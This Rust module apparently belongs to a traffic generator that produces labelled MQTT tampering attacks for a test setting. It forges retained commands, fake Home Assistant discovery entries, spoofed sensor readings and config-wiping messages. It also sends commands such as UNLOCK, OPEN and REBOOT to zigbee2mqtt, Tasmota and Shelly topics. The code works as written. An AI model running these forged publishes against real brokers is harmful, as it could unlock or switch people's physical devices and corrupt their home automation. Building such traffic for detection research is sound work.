//! Messages in the name of others: retained ones that stay, commands, false readings.

use clap::Args;
use serde::{Deserialize, Serialize};

use super::manner::{Manner, Worker};
use super::{Deed, Meter, Place, defaults};
use crate::mqtt::packet::Publish;
use crate::mqtt::session::Session;
use crate::random::Random;
use crate::stop::Stop;

/// How messages reach the broker.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Serialize, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "kebab-case")]
pub enum Delivery {
    /// All over one session.
    Session,
    /// Each over a connection of its own, as `mosquitto_pub` does.
    Single,
}

/// One forged message.
struct Forged {
    topic: String,
    payload: Vec<u8>,
    retain: bool,
}

/// Publishes forged messages until the turns are used up.
fn deliver(mut worker: Worker<'_>, delivery: Delivery, qos: u8, forge: impl Fn(u64, &mut Random) -> Forged) {
    let mut session: Option<Session> = None;
    while let Some(index) = worker.turn() {
        let Some(open) = worker.session(&mut session, index) else { continue };
        let Forged { topic, payload, retain } = forge(index, &mut worker.random);
        let mut bytes = Vec::new();
        let id = open.packet_id();
        Publish { topic: &topic, payload: &payload, qos, retain, id }.encode_into(open.version(), &mut bytes);
        let sent = open.send_cut(&bytes, worker.cut()).and_then(|()| open.drain());
        worker.tell(&sent);
        if sent.is_err() || delivery == Delivery::Single {
            session.take().into_iter().for_each(Session::leave);
        }
    }
    session.into_iter().for_each(Session::leave);
}

/// What is done with retained messages.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Serialize, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "kebab-case")]
pub enum Poison {
    /// Retained commands: every device that connects gets them.
    Command,
    /// Retained announcements of devices that do not exist.
    Discovery,
    /// False readings, retained.
    State,
    /// Empty retained messages, which delete what was retained.
    Wipe,
}

/// Options of the retained messages.
#[derive(Clone, PartialEq, Debug, Serialize, Deserialize, Args)]
#[serde(default, deny_unknown_fields)]
pub struct RetainedPoisoning {
    /// Messages in all
    #[arg(long, default_value_t = 80)]
    pub count: u32,
    /// What is done
    #[arg(long, value_enum, default_value = "command")]
    pub poison: Poison,
    /// One session or many connections
    #[arg(long, value_enum, default_value = "session")]
    pub delivery: Delivery,
    /// Quality of service
    #[arg(long, default_value_t = 0, value_parser = clap::value_parser!(u8).range(0..=2))]
    pub qos: u8,
    /// How it goes about it
    #[command(flatten)]
    pub manner: Manner,
}

impl Default for RetainedPoisoning {
    fn default() -> Self {
        defaults()
    }
}

impl Deed for RetainedPoisoning {
    fn label(&self) -> (&'static str, &'static str) {
        ("mqtt_tampering", "A11")
    }

    fn secs(&self) -> u32 {
        self.manner.secs
    }

    fn run(&self, place: &Place, stop: &Stop, meter: &Meter) {
        let victims = place.victims();
        self.manner.work(place, stop, meter, self.count, |worker| {
            deliver(worker, self.delivery, self.qos, |index, random| {
                let name = random.pick(&victims).clone();
                let (topic, payload) = match self.poison {
                    Poison::Command => (command_topic(&name, random), order(random)),
                    Poison::Discovery => (
                        format!("homeassistant/switch/{name}/x{index:03}/config"),
                        format!(
                            "{{\"name\":\"x{index}\",\"cmd_t\":\"site/{name}/set\",\"uniq_id\":\"{}\"}}",
                            random.text(10)
                        )
                        .into(),
                    ),
                    Poison::State => (reading_topic(&name, random), reading(random)),
                    Poison::Wipe if random.chance(0.5) => {
                        (format!("homeassistant/sensor/{name}/e{:03}/config", index % 400), Vec::new())
                    }
                    Poison::Wipe => (reading_topic(&name, random), Vec::new()),
                };
                Forged { topic, payload, retain: true }
            });
        });
    }
}

/// Options of the commands.
#[derive(Clone, PartialEq, Debug, Serialize, Deserialize, Args)]
#[serde(default, deny_unknown_fields)]
pub struct CommandInjection {
    /// Commands in all
    #[arg(long, default_value_t = 60)]
    pub count: u32,
    /// Different victims
    #[arg(long, default_value_t = 4)]
    pub victims: u32,
    /// One session or many connections
    #[arg(long, value_enum, default_value = "session")]
    pub delivery: Delivery,
    /// Quality of service
    #[arg(long, default_value_t = 0, value_parser = clap::value_parser!(u8).range(0..=2))]
    pub qos: u8,
    /// How it goes about it
    #[command(flatten)]
    pub manner: Manner,
}

impl Default for CommandInjection {
    fn default() -> Self {
        defaults()
    }
}

impl Deed for CommandInjection {
    fn label(&self) -> (&'static str, &'static str) {
        ("mqtt_tampering", "A12")
    }

    fn secs(&self) -> u32 {
        self.manner.secs
    }

    fn run(&self, place: &Place, stop: &Stop, meter: &Meter) {
        let victims = some_victims(place, self.victims);
        self.manner.work(place, stop, meter, self.count, |worker| {
            deliver(worker, self.delivery, self.qos, |_, random| {
                let name = random.pick(&victims).clone();
                Forged { topic: command_topic(&name, random), payload: order(random), retain: false }
            });
        });
    }
}

/// Options of the false readings.
#[derive(Clone, PartialEq, Debug, Serialize, Deserialize, Args)]
#[serde(default, deny_unknown_fields)]
pub struct SpoofedTelemetry {
    /// Readings in all
    #[arg(long, default_value_t = 60)]
    pub count: u32,
    /// Different victims
    #[arg(long, default_value_t = 2)]
    pub victims: u32,
    /// One session or many connections
    #[arg(long, value_enum, default_value = "session")]
    pub delivery: Delivery,
    /// Quality of service
    #[arg(long, default_value_t = 0, value_parser = clap::value_parser!(u8).range(0..=2))]
    pub qos: u8,
    /// How it goes about it
    #[command(flatten)]
    pub manner: Manner,
}

impl Default for SpoofedTelemetry {
    fn default() -> Self {
        defaults()
    }
}

impl Deed for SpoofedTelemetry {
    fn label(&self) -> (&'static str, &'static str) {
        ("mqtt_tampering", "A13")
    }

    fn secs(&self) -> u32 {
        self.manner.secs
    }

    fn run(&self, place: &Place, stop: &Stop, meter: &Meter) {
        let victims = some_victims(place, self.victims);
        self.manner.work(place, stop, meter, self.count, |worker| {
            deliver(worker, self.delivery, self.qos, |_, random| {
                let name = random.pick(&victims).clone();
                Forged { topic: reading_topic(&name, random), payload: reading(random), retain: false }
            });
        });
    }
}

fn some_victims(place: &Place, count: u32) -> Vec<String> {
    let mut victims = place.victims();
    place.random(u32::MAX).shuffle(&mut victims);
    victims.truncate(count.max(1) as usize);
    victims
}

/// A topic by which devices take commands.
pub(super) fn command_topic(name: &str, random: &mut Random) -> String {
    match random.between((0, 9)) {
        0..=4 => format!("site/{name}/set"),
        5 => format!("site/group-{}/set", random.between((0, 3))),
        6 => format!("cmnd/{name}/POWER"),
        7 => format!("zigbee2mqtt/{name}/set"),
        8 => format!("shellies/{name}/relay/0/command"),
        _ => format!("{name}/command"),
    }
}

/// A topic on which devices report.
fn reading_topic(name: &str, random: &mut Random) -> String {
    match random.between((0, 9)) {
        0..=3 => format!("site/{name}/state"),
        4..=7 => format!("site/{name}/temperature"),
        8 => format!("tele/{name}/SENSOR"),
        _ => format!("zigbee2mqtt/{name}"),
    }
}

fn order(random: &mut Random) -> Vec<u8> {
    let word = *random.pick(&["ON", "OFF", "1", "0", "TOGGLE", "OPEN", "UNLOCK", "REBOOT"]);
    match random.between((0, 2)) {
        0 => format!("{{\"state\":\"{word}\"}}"),
        1 => format!("{{\"cmd\":\"{word}\",\"arg\":{}}}", random.between((0, 65_535))),
        _ => word.into(),
    }
    .into_bytes()
}

fn reading(random: &mut Random) -> Vec<u8> {
    let value = random.between_f64((-400.0, 9000.0));
    if random.chance(0.6) { format!("{{\"v\":{value:.2}}}") } else { format!("{value:.1}") }.into_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_go_to_topics_of_the_victim() {
        let mut random = Random::new(2);
        for _ in 0..50 {
            let topic = command_topic("lamp", &mut random);
            assert!(topic.contains("lamp") || topic.starts_with("site/group-"), "{topic}");
            assert!(!order(&mut random).is_empty() && !reading(&mut random).is_empty());
        }
    }
}
